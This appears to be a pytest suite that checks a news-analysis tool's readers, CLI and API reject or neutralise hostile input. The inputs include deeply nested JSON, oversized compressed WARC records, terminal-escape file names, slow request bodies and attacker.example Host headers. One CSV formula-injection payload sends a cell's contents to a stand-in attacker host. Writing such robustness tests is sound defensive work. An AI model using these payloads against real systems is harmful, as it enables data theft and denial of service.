"""Hostile and broken input: one bad document never costs the others, never a traceback, never a 500.

One test per failure of issue #12, each with its literal input made here, next to good
documents; then the same bad files together through ``analyze`` and ``ingest`` in subprocesses
(every good document printed / stored, one escaped error line per bad input, exit code 1).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import socket
import subprocess
import sys
import threading
import time
import tracemalloc
import zlib
from pathlib import Path

import pytest

from newsgraph.pipeline import Pipeline
from newsgraph.readers import read_paths, read_stream
from newsgraph.readers.base import RawDocument

ROOT = Path(__file__).resolve().parents[1]
TEXT_STAGES = ("clean", "language")

GOOD_A = """Night Buses Return to the Eastern Suburbs

By Ines Carvalho

The regional transport board said on Thursday that night buses would run again on the three eastern routes from next month, two years after the service was cut to save money.

"People who work late shifts have waited long enough," said Pedro Alves, the board's operations director. He said the buses would leave the central station every forty minutes after midnight.

Unions representing hospital and hotel staff welcomed the decision but asked for a fourth route to the industrial park.
"""

GOOD_B = """Library Opens a Repair Café for Small Appliances

Volunteers at the Westbrook public library will fix toasters, lamps and radios free of charge every Saturday morning, the library announced this week.

The organiser, a retired electrician named Joan Pike, said the aim was to keep working machines out of landfill. "Most of what people throw away needs a new fuse or a cleaned contact," she said.

Visitors are asked to bring one item each and to book a slot in advance.
"""


def good_dir(tmp_path: Path) -> Path:
    d = tmp_path / "in"
    d.mkdir(exist_ok=True)
    (d / "good-a.txt").write_text(GOOD_A, encoding="utf-8")
    (d / "good-b.txt").write_text(GOOD_B, encoding="utf-8")
    return d


def read_all(*paths: Path) -> dict[str, RawDocument]:
    return {Path(r.path or "-").name + (f"#{r.index}" if r.index is not None else ""): r
            for r in read_paths([str(p) for p in paths])}


def analyse(*paths: Path) -> list:
    """Reader + text stages (no spaCy): every document comes back as an Article that serialises."""
    articles = list(Pipeline(TEXT_STAGES).analyze_many(read_paths([str(p) for p in paths])))
    for a in articles:
        json.loads(a.to_json())
    return articles


def assert_goods(articles: list) -> None:
    titles = {a.title for a in articles if not a.error}
    assert "Night Buses Return to the Eastern Suburbs" in titles
    assert "Library Opens a Repair Café for Small Appliances" in titles


# -- 1. JSON nested 100,000 levels deep ---------------------------------------------------------
DEEP_JSON = b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def test_1_deep_jsonl_row_is_one_error_and_the_next_line_is_read(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    (d / "deep.jsonl").write_bytes(DEEP_JSON + b"\n" + json.dumps({"text": GOOD_A}).encode() + b"\n")
    docs = read_all(d)
    assert "nested" in docs["deep.jsonl#0"].error
    assert docs["deep.jsonl#1"].error is None and docs["deep.jsonl#1"].text.startswith("Night Buses")
    assert_goods(analyse(d))


def test_1_deep_json_array_file(tmp_path: Path) -> None:
    (tmp_path / "deep.json").write_bytes(b"[" * 5000 + b"]" * 5000)
    (doc,) = read_all(tmp_path / "deep.json").values()
    assert "nested" in doc.error


# -- 2. WARC response record without WARC-Target-URI --------------------------------------------
PAGE = ("<html><head><title>Ferry</title></head><body><article><h1>Ferry timetable changes</h1>"
        "<p>The harbour ferry will leave twenty minutes earlier from April, the operator said on Monday, "
        "after commuters asked for an earlier crossing.</p><p>Passenger groups said they would study "
        "the new timetable before deciding whether to object to it.</p></article></body></html>")


def warc_record(headers: dict[str, str], http: bytes) -> bytes:
    head = "WARC/1.0\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    head += f"Content-Length: {len(http)}\r\n\r\n"
    return head.encode() + http + b"\r\n\r\n"


def http_page(body: str = PAGE) -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body.encode()


def test_2_warc_record_without_target_uri_is_read_with_a_warning(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    rec = {"WARC-Type": "response", "WARC-Record-ID": "<urn:uuid:0001>", "WARC-Date": "2026-03-02T08:00:00Z",
           "Content-Type": "application/http; msgtype=response"}
    with_uri = {**rec, "WARC-Record-ID": "<urn:uuid:0002>", "WARC-Target-URI": "https://example.org/ferry"}
    (d / "crawl.warc").write_bytes(warc_record(rec, http_page()) + warc_record(with_uri, http_page()))
    docs = read_all(d)
    assert docs["crawl.warc#0"].error is None and "WARC-Target-URI" in docs["crawl.warc#0"].warnings[0]
    assert docs["crawl.warc#1"].url == "https://example.org/ferry"
    assert_goods(analyse(d))


# -- 3. a WARC header line of hundreds of MB ----------------------------------------------------
def test_3_huge_warc_header_line_stops_the_file_with_bounded_memory(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip member
    parts = [comp.compress(b"WARC/1.0\r\nWARC-Type: response\r\nX-Filler: ")]
    chunk = b"a" * (1 << 20)
    parts += [comp.compress(chunk) for _ in range(300)]  # a 300 MB header line
    parts.append(comp.compress(b"\r\n\r\n") + comp.flush())
    (d / "huge.warc.gz").write_bytes(b"".join(parts))
    assert (d / "huge.warc.gz").stat().st_size < 2_000_000
    tracemalloc.start()
    t0 = time.monotonic()
    docs = read_all(d)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "header line longer than" in docs["huge.warc.gz#0"].error
    assert peak < 64_000_000, peak
    assert time.monotonic() - t0 < 30
    assert docs["good-a.txt"].text and docs["good-b.txt"].text


# -- 4. RSS with a non-UTF-8 byte in its XML encoding declaration -------------------------------
FEED = ('<rss version="2.0"><channel><title>Valley Courier</title><item><title>Bridge repairs begin</title>'
        '<link>https://example.org/bridge</link><description>&lt;p&gt;Repairs to the old river bridge '
        'began on Monday and will close one lane until June, the council said.&lt;/p&gt;</description>'
        '</item></channel></rss>')


def test_4_feed_with_a_bad_byte_in_the_encoding_declaration(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    (d / "news.rss").write_bytes(b'<?xml version="1.0" encoding="utf-\xff8"?>' + FEED.encode())
    docs = read_all(d)
    entry = docs["news.rss#0"]
    assert entry.error is None and entry.text.startswith("Repairs to the old river bridge")
    assert any("XML declaration" in w for w in entry.warnings)
    assert_goods(analyse(d))


# -- 5. a control character inside a feed entry's HTML ------------------------------------------
def test_5_control_character_in_feed_html(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    (d / "ctl.rss").write_bytes(FEED.replace("began on Monday", "began\x01 on Monday\x0b").encode())
    entry = read_all(d)["ctl.rss#0"]
    assert entry.error is None and "began on Monday" in entry.text
    assert_goods(analyse(d))


# -- 6. a lone surrogate escape in a JSON text or title ------------------------------------------
def test_6_lone_surrogate_in_json_is_replaced_with_a_warning(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    (d / "sur.jsonl").write_bytes(b'{"title": "Harbour \\udc00 report", "text": "The harbour board met \\ud800 on '
                                  b'Monday and agreed to dredge the channel before the summer season."}\n')
    articles = analyse(d)
    (bad,) = [a for a in articles if a.source.path.endswith("sur.jsonl")]
    assert bad.error is None and "\ufffd" in bad.title and "\ufffd" in bad.text
    assert any("surrogate" in w for w in bad.warnings)
    assert_goods(articles)


# -- 7. a symbolic link loop in an input folder ---------------------------------------------------
def test_7_symlink_loop_is_one_error(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    os.symlink("loop", d / "loop")
    os.symlink("..", d / "up")  # a link to a folder is not followed (no endless walk)
    docs = read_all(d)
    assert docs["loop"].error == "cannot read: symbolic link loop"
    assert docs["good-a.txt"].text and docs["good-b.txt"].text
    assert len(docs) == 3


# -- 8. a file name that is not valid UTF-8 ------------------------------------------------------
def test_8_non_utf8_file_name(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    bad = os.fsdecode(os.fsencode(d) + b"/caf\xe9-\xff.txt")
    Path(bad).write_text(GOOD_A.replace("Night Buses", "Late Trams"), encoding="utf-8")
    articles = analyse(d)
    (named,) = [a for a in articles if "caf" in a.source.path]
    assert named.error is None and named.source.path.endswith("caf\ufffd-\ufffd.txt")
    assert any("not valid UTF-8" in w for w in named.warnings)
    assert_goods(articles)


# -- 9. --db pointing at a file that is not SQLite -----------------------------------------------
def run_cli(*args: str, timeout: float = 300) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    return subprocess.run([sys.executable, "-m", "newsgraph", *args], capture_output=True, env=env,
                          timeout=timeout, cwd=ROOT)


def test_9_db_that_is_not_sqlite_exits_2_without_traceback(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    db = tmp_path / "notes.db"
    db.write_text("these are my notes, not a database\n" * 100)
    r = run_cli("ingest", str(d), "--db", str(db), "--stages", "clean,language", "--no-progress")
    assert r.returncode == 2, r.stderr
    assert b"Traceback" not in r.stderr and b"not a database" in r.stderr
    assert db.read_text().startswith("these are my notes")


# -- 10. ids >= 2^63 on page routes -----------------------------------------------------------------
@pytest.fixture(scope="module")
def client(tmp_path_factory):
    pytest.importorskip("httpx")
    from fastapi.testclient import TestClient

    from newsgraph.api.app import create_app
    from newsgraph.api.samples import build_sample_db

    db = tmp_path_factory.mktemp("corpus") / "corpus.db"
    build_sample_db(db)
    with TestClient(create_app(db, token="sesame"), base_url="http://localhost") as c:
        yield c


@pytest.mark.parametrize("path", ["/stories/9223372036854775808", "/stories/99999999999999999999999",
                                  "/api/stories/9223372036854775808", "/stories/-9223372036854775809"])
def test_10_huge_ids_are_404_or_422_never_500(client, path: str) -> None:
    r = client.get(path)
    assert r.status_code in (404, 422), (path, r.status_code, r.text[:200])


@pytest.mark.parametrize("query", ["story=9223372036854775808", "story=-1", "offset=9223372036854775808",
                                   "story=1e400", "offset=NaN"])
def test_10_huge_query_numbers(client, query: str) -> None:
    for page in ("/quotes", "/events", "/api/quotes", "/api/articles"):
        r = client.get(f"{page}?{query}")
        assert r.status_code in (200, 404, 422), (page, query, r.status_code)


# -- 11. cost: long documents in bounded pieces; the anonymous API limit; cancellation ----------------
def test_11_long_text_is_analysed_in_sections_that_tile_it() -> None:
    from newsgraph.pipeline.long_documents import merge_section, section_article, sections
    from newsgraph.pipeline.base import text_pieces

    body = "\n\n".join(f"Paragraph {i} says the council met on day {i} and agreed on item {i}." for i in range(3000))
    article = Pipeline(("clean",)).analyze(RawDocument(text=body))
    spans = sections(article, 20_000)
    assert len(spans) > 5 and spans[0][0] == 0 and spans[-1][1] == len(article.paragraphs)
    assert all(a[1] == b[0] for a, b in zip(spans, spans[1:]))
    sub = section_article(article, *spans[2])
    assert sub.text == article.text[article.paragraphs[spans[2][0]].start:article.paragraphs[spans[2][1] - 1].end]
    merge_section(article, sub, spans[2][0])  # an empty analysis merges to nothing
    assert article.quotes == [] and article.entities == []
    one_line = "word " * 50_000  # a single 250,000-character paragraph: cut at spaces
    pieces = text_pieces(one_line, 10_000)
    assert "".join(one_line[a:b] for a, b in pieces) == one_line and max(b - a for a, b in pieces) <= 10_000


def test_11_cancel_scope_stops_a_pipeline_between_stages() -> None:
    from newsgraph.pipeline import AnalysisCancelled, cancel_scope

    with cancel_scope(lambda: True), pytest.raises(AnalysisCancelled):
        Pipeline(TEXT_STAGES).analyze(RawDocument(text=GOOD_A))
    with cancel_scope(lambda: False):
        assert Pipeline(TEXT_STAGES).analyze(RawDocument(text=GOOD_A)).paragraphs


def test_11_runner_cancels_the_job_after_a_timeout() -> None:
    from newsgraph.api.errors import ApiError
    from newsgraph.api.limits import Limits, Runner
    from newsgraph.pipeline.base import check_cancelled

    stopped = threading.Event()

    def busy() -> None:
        t0 = time.monotonic()
        try:
            while time.monotonic() - t0 < 20:
                check_cancelled()
                time.sleep(0.01)
        finally:
            stopped.set()

    runner = Runner(Limits(timeout=0.3, workers=1, max_pending=1))
    with pytest.raises(ApiError) as err:
        asyncio.run(runner.run(busy))
    assert err.value.status == 504
    assert stopped.wait(2), "the timed-out job kept running"
    runner.close()


def test_11_anonymous_analyze_is_limited_token_holders_get_more(client) -> None:
    body = ("The council met on Monday. " * 4000).encode()  # 108 kB
    r = client.post("/api/analyze", content=body, headers={"content-type": "text/plain"})
    assert r.status_code == 413 and "100,000-byte" in r.json()["error"]["message"]
    r = client.post("/api/analyze", content=body[:50_000], headers={"content-type": "text/plain",
                                                                   "authorization": "Bearer wrong"})
    assert r.status_code == 200
    r = client.post("/api/articles", content=json.dumps({"text": "x" * 300_000}),
                    headers={"content-type": "application/json", "authorization": "Bearer sesame"})
    assert r.status_code != 413


# -- 12. quieter faults ----------------------------------------------------------------------------
def test_12_unreadable_folder_is_an_error(tmp_path: Path, monkeypatch) -> None:
    d = good_dir(tmp_path)
    locked = d / "locked"
    locked.mkdir()
    (locked / "inside.txt").write_text(GOOD_B)
    real = os.scandir

    def scandir(path):  # the tests run as root, where chmod 000 does not lock anything
        if Path(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    docs = read_all(d)
    assert docs["locked"].error == "cannot read folder: Permission denied"
    assert docs["good-a.txt"].text and docs["good-b.txt"].text


def test_12_mojibake_guess_is_a_warning() -> None:
    data = b"The council met on Monday \xe0\xe1\xe2\xe3 and \xf0\xf1\xf2 agreed to \xc0\xc1\xc2 more."
    (doc,) = read_stream(io.BytesIO(data), path="odd.txt", fmt="text")
    assert doc.text and any("by guessing" in w for w in doc.warnings)


@pytest.mark.parametrize("record, outcome", [
    ({"text": 12345}, "error"),
    ({"text": {"body": "The council met."}}, "error"),
    ({"text": True}, "error"),
    ({"text": ["The council met on Monday.", "It agreed to meet again."]}, "warning"),
    ({"text": "The council met on Monday.", "title": 2026}, "warning"),
    ({"text": "The council met on Monday.", "html": 7}, "warning"),
])
def test_12_wrong_json_types_are_never_silent(record: dict, outcome: str) -> None:
    (doc,) = read_stream(io.BytesIO(json.dumps(record).encode() + b"\n"), path="x.jsonl", fmt="jsonl")
    if outcome == "error":
        assert doc.error and "must be a string" in doc.error
    else:
        assert doc.error is None and doc.warnings


def test_12_oversized_title_is_cut_with_a_warning(tmp_path: Path) -> None:
    d = good_dir(tmp_path)
    (d / "t.jsonl").write_text(json.dumps({"title": "Big " * 500_000, "text": GOOD_B}) + "\n")
    (a,) = [a for a in analyse(d) if a.source.path.endswith("t.jsonl")]
    assert len(a.title) <= 1_000 and any("title cut to 1,000" in w for w in a.warnings)


def test_12_host_header_is_checked(client, tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from newsgraph.api.app import create_app
    from newsgraph.api.samples import build_sample_db

    assert client.get("/api/counts", headers={"host": "attacker.example"}).status_code == 400
    assert client.get("/", headers={"host": "rebind.attacker.example:8000"}).json()["error"]["code"] == "bad_host"
    for ok in ("localhost:8000", "127.0.0.1", "127.0.0.1:8000", "[::1]:8000", "LOCALHOST"):
        assert client.get("/api/counts", headers={"host": ok}).status_code == 200, ok
    build_sample_db(tmp_path / "c.db")
    app = create_app(tmp_path / "c.db", allowed_hosts=["127.0.0.1", "news.internal"])
    with TestClient(app, base_url="http://news.internal:8000") as c:
        assert c.get("/api/counts").status_code == 200
        assert c.get("/api/counts", headers={"host": "localhost"}).status_code == 400


def test_12_serve_has_allow_host() -> None:
    r = run_cli("serve", "--help")
    assert b"--allow-host" in r.stdout


def test_12_slow_body_times_out(tmp_path: Path) -> None:
    uvicorn = pytest.importorskip("uvicorn")
    from newsgraph.api.app import create_app
    from newsgraph.api.limits import Limits
    from newsgraph.api.samples import build_sample_db

    build_sample_db(tmp_path / "c.db")
    app = create_app(tmp_path / "c.db", limits=Limits(body_timeout=1.0))
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="error"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        for _ in range(100):
            if server.started:
                break
            time.sleep(0.05)
        with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
            conn.sendall(b"POST /api/analyze HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/plain\r\n"
                         b"Content-Length: 1000\r\n\r\nThe council")
            t0 = time.monotonic()
            reply = conn.recv(4096)
            assert reply.startswith(b"HTTP/1.1 408"), reply[:200]
            assert time.monotonic() - t0 < 5
    finally:
        server.should_exit = True
        thread.join(10)


def test_12_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    from newsgraph.corpus import Store
    from newsgraph.corpus.export import csv_cell, export

    assert [csv_cell(v) for v in ("=1+2", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "ok", 5, -5, None)] == \
        ["'=1+2", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "ok", 5, -5, None]
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    a = Pipeline(("clean",)).analyze(RawDocument(text=GOOD_A, title=hostile, outlet="@outlet"))
    with Store(tmp_path / "x.db") as store:
        store.add_article(a)
        out = io.StringIO()
        export(store, "articles", "csv", out=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["title"] == "'" + hostile and rows[0]["outlet"] == "'@outlet"
    assert all(not str(v).startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_12_error_lines_escape_names(tmp_path: Path) -> None:
    from newsgraph.commands.analyze import one_line

    from rich.console import Console

    console = Console(file=io.StringIO(), width=200, color_system=None)
    console.print(f"[red]error[/]: {one_line('a\nb\x1b[31mc[/b] [bold]x')}", markup=True, soft_wrap=True)
    assert console.file.getvalue() == "error: a\\nb\\x1b[31mc[/b] [bold]x\n"


# -- all of them at once, through the command line ---------------------------------------------------
def hostile_dir(tmp_path: Path) -> tuple[Path, int]:
    """The good articles plus one bad file per reader failure; returns (folder, bad inputs)."""
    d = good_dir(tmp_path)
    (d / "deep.jsonl").write_bytes(DEEP_JSON + b"\n")
    (d / "news.rss").write_bytes(b'<?xml version="1.0" encoding="utf-\xff8"?>' + FEED.encode())
    (d / "ctl.rss").write_bytes(FEED.replace("began on Monday", "began\x01 on Tuesday").replace("Bridge", "Bridge lane").encode())
    (d / "sur.jsonl").write_bytes(b'{"text": "Ferry \\ud800 crossings resume on Monday after repairs."}\n')
    os.symlink("loop", d / "loop")
    Path(os.fsdecode(os.fsencode(d) + b"/caf\xe9.txt")).write_text(
        GOOD_A.replace("Night Buses", "Late Trams") + "\nThe trams will carry bicycles after ten in the evening.\n")
    (d / "evil\nname\x1b[2J.jsonl").write_text(json.dumps({"text": 12345}) + "\n")
    (d / "big-title.jsonl").write_text(json.dumps({"title": "T" * 2_000_000, "text": GOOD_B + "\nThe café closes for August."}) + "\n")
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    (d / "huge.warc.gz").write_bytes(comp.compress(b"WARC/1.0\r\nX: " + b"a" * 50_000_000) + comp.flush())
    return d, 4  # deep.jsonl, loop, evil name ({"text": 12345}), huge.warc.gz


def test_all_cases_through_analyze_and_ingest(tmp_path: Path) -> None:
    d, n_bad = hostile_dir(tmp_path)
    r = run_cli("analyze", "--json", "--no-progress", str(d))
    err = r.stderr.decode("utf-8", "replace")
    assert r.returncode == 1, err
    assert "Traceback" not in err
    errors = [ln for ln in err.splitlines() if ln.startswith("error:")]
    assert len(errors) == n_bad, err
    assert "\x1b" not in err and "evil\\nname\\x1b[2J.jsonl" in err.replace("\\[", "[")
    records = [json.loads(ln) for ln in r.stdout.decode().splitlines()]
    titles = {rec["title"] for rec in records if not rec["error"]}
    assert {"Night Buses Return to the Eastern Suburbs", "Library Opens a Repair Café for Small Appliances",
            "Late Trams Return to the Eastern Suburbs", "Bridge repairs begin"} <= titles
    db = tmp_path / "c.db"
    r = run_cli("ingest", str(d), "--db", str(db), "--no-progress", "--json")
    assert r.returncode == 1 and b"Traceback" not in r.stderr, r.stderr
    report = json.loads(r.stdout)
    assert report["failed"] == n_bad and report["stored"] == len(records) - n_bad, report
    assert report["duplicates"] == 0


# -- no 500 for any input ------------------------------------------------------------------------------
HOSTILE_GETS = [
    "/articles/" + "a" * 5000, "/articles/%00", "/articles/%ff%fe", "/entities/%00", "/entities/%ff",
    "/entities/" + "x" * 3000, "/search?q=%00", "/search?q=%22", "/search?q=NEAR(", "/search?q=*",
    "/search?q=a%20OR%20", "/search?q=%ff%fe", "/api/search?q=%22%22%22", "/api/search?q=-", "/api/search?q=%5E",
    "/quotes?speaker=%00", "/api/quotes?speaker=%ff", "/api/entities/%00", "/api/articles?since=9999-99-99",
    "/api/articles?since=0000", "/events?code=%00", "/api/events?code=999999999999999999999", "/copies?offset=-1",
    "/api/stories?since=2026-13-45", "/stories/%00", "/stories/1.5", "/?offset=99999999999999999999",
]


@pytest.mark.parametrize("path", HOSTILE_GETS)
def test_no_500_for_hostile_get(client, path: str) -> None:
    r = client.get(path)
    assert r.status_code < 500, (path, r.status_code, r.text[:300])


@pytest.mark.parametrize("body, ctype", [
    (DEEP_JSON, "application/json"),
    (b'{"text": "Harbour \\ud800 news: the ferry resumes on Monday.", "title": "\\udc00"}', "application/json"),
    (b'{"text": "ok", "url": 5}', "application/json"),
    (b'{"text": 12345}', "application/json"),
    (b"[" * 200 + b"]" * 200, "application/json"),
    (b'"just a string"', "application/json"),
    (b"\xff\xfe\x00", "text/plain; charset=utf-16"),
    (b"caf\xe9", "text/plain; charset=latin-1"),
    (b"abc", "text/plain; charset=nonsense"),
    (b"<html><body>\x00\x01\x02<p>" + b"x" * 50 + b"</p></body></html>", "text/html"),
    (b"", "text/plain"),
    (b"\x1b[2J\x00\x7f", "text/plain"),
])
def test_no_500_for_hostile_analyze_bodies(client, body: bytes, ctype: str) -> None:
    r = client.post("/api/analyze", content=body, headers={"content-type": ctype})
    assert r.status_code < 500, (body[:40], r.status_code, r.text[:300])
    if r.status_code == 200:
        json.loads(r.text)


def test_11_long_document_sections_merge_consistently(monkeypatch) -> None:
    """The sectioned path end to end (with spaCy): offsets, paragraph numbers and ids stay valid."""
    pytest.importorskip("spacy")
    import newsgraph.pipeline as pipeline_mod
    import newsgraph.pipeline.long_documents as sections_mod

    monkeypatch.setattr(pipeline_mod, "SECTION_CHARS", 600)
    monkeypatch.setattr(sections_mod, "SECTION_CHARS", 600)
    second = GOOD_A.replace("Pedro Alves", "Rita Moura").replace("three eastern", "two western")
    text = "\n\n".join([GOOD_A, GOOD_B, second.replace("Night Buses Return to the Eastern Suburbs\n", "")])
    article = Pipeline().analyze(RawDocument(text=text, path="long.txt"))
    assert article.error is None and any("analysed in sections" in w for w in article.warnings)
    body = article.text
    ids = [e.id for e in article.entities]
    assert len(ids) == len(set(ids)) and article.quotes
    for e in article.entities:
        assert all(body[m.start:m.end] == m.text for m in e.mentions), e.name
    for q in article.quotes:
        p = article.paragraphs[q.paragraph]
        assert p.start <= q.start < q.end <= p.end + 2 and (q.speaker_id is None or q.speaker_id in ids)
    speakers = {q.speaker for q in article.quotes}
    assert {"Pedro Alves", "Rita Moura", "Joan Pike"} <= speakers, speakers
    json.loads(article.to_json())
